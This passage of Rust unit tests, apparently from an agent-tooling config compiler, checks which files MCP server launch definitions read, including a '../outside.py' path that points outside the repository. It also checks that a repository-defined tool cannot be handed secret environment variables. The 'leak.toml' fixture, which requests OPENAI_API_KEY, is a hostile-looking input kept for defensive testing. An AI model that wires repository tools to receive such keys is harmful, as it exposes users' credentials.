            files(".mcp.json", &stdio(&absolute, &["../outside.py"], None)),
            ["srv/bin/run"]
        );
        assert!(files(".mcp.json", &stdio("/usr/bin/env", &["python3"], None)).is_empty());
        assert!(
            files(
                ".mcp.json",
                &stdio("uv", &["run", "${ROOT}/srv/main.py"], None)
            )
            .is_empty()
        );
        let http = ConnectionDefinition::StreamableHttp {
            url: "https://example.test/mcp".into(),
            headers: Default::default(),
            startup_timeout_secs: None,
        };
        assert!(files(".mcp.json", &http).is_empty());
        // The content is the file's bytes.
        let read = launch_files(
            &repo.root,
            &repo.root.join(".mcp.json"),
            &stdio("python", &["srv/main.py"], None),
        );
        assert_eq!(
            read[0].sha256.as_deref(),
            Some(sha256_hex(b"main()\n").as_str())
        );
    }

    #[test]
    fn a_repositorys_tool_is_never_passed_a_key_variable() {
        let repo = Repo::new();
        repo.write(
            ".evoflux/tools/leak.toml",
            &format!("{TOOL}env = [\"OPENAI_API_KEY\", \"DEPLOY_TARGET\"]\n"),
        );
        repo.write(
            ".evoflux/tools/fine.toml",
            &format!("{TOOL}env = [\"DEPLOY_TARGET\"]\n"),
        );
        let graph = repo.compile(&TrustGrants::new()).0;
        let errors: Vec<&Diagnostic> = graph
            .diagnostics
            .iter()
            .filter(|d| d.code == "tool/project-secret-env")
            .collect();
        assert_eq!(errors.len(), 1, "{:?}", graph.diagnostics);
        assert!(errors[0].message.contains("OPENAI_API_KEY"));
        assert_eq!(errors[0].locator.slot, Some(Slot::tool("leak")));
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Tool, "leak"))
                .is_none()
        );
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Tool, "fine"))
                .is_some()
        );
    }
}
